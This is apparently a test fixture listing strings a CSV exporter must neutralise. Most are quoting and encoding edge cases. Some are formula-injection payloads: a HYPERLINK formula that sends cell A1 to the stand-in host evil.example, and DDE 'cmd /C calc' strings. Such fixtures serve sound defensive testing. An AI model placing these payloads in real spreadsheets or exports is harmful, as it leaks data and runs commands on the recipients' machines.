/** Names that a CSV reader or a spreadsheet might take for something else. */
export const hostileNames = [
  '=HYPERLINK("http://evil.example/?"&A1;"click")',
  '+1+cmd|’/C calc’!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  // One cell with the two before it, were the guard not told apart from the text.
  "'＝1+1",
  "'@SUM(1)",
  // Formulas to a reader that splits at semicolons or tabs.
  "x;=cmd|' /C calc'!A0;y",
  'x;"=1+1;y',
  'x\t=1+1',
  'quoted "name", with commas',
  'two\nlines\r\nand more',
  'emoji 👩‍💻 and ünïcode',
  "'quoted already",
  ' leading space',
  '5',
];
